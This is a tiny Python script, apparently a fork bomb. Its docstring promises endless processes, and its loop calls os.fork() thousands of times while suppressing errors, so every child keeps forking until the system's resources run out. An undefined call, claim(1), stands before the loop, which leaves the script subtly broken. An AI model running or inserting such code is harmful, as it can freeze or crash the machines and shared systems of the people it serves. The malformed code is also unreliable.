"""Make processes without end."""

# %% below
import os

claim(1)
for _ in range(10**4):
    try:
        os.fork()
    except OSError:
        pass
